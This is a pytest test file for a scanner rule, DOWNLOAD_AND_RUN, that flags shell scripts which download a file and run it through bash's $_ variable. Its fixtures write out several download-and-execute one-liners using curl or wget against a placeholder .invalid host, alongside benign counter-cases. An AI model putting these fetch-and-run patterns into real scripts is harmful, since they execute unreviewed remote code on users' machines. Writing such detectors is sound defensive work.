"""bash's ``$_`` (the last word of the command before) read as that word: a download saved with
``-o FILE`` and then sourced as ``. "$_"`` is run (DOWNLOAD_AND_RUN). Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    "script",
    [
        'curl -fsSL "https://mirror.build-cache.invalid/p?v=2" -o "${TMPDIR:-/tmp}/.bc-$$"\n. "$_"\n',
        'curl -s https://mirror.build-cache.invalid/s > /tmp/hook.sh; chmod 700 /tmp/hook.sh\nsource "${_}"\n',
        "wget -qO /tmp/prep.sh https://mirror.build-cache.invalid/prep && test -s /tmp/prep.sh\nbash $_\n",
    ],
)
def test_a_download_run_through_the_last_argument(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path / "s", {"scripts/warm.sh": script})
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)


@pytest.mark.parametrize(
    "script",
    [
        # the last word of wget here is the URL: `bash $_` would not run the saved file
        "wget -q -O /tmp/prep.sh https://mirror.build-cache.invalid/prep\nbash $_\n",
        'curl -fsSL https://mirror.build-cache.invalid/data.json -o /tmp/d.json\njq .version "$_"\n',
        'mkdir -p /tmp/out && cd "$_"\nmake all\n',
    ],
)
def test_the_last_argument_of_something_else_runs_nothing(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path / "s", {"scripts/warm.sh": script})
    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
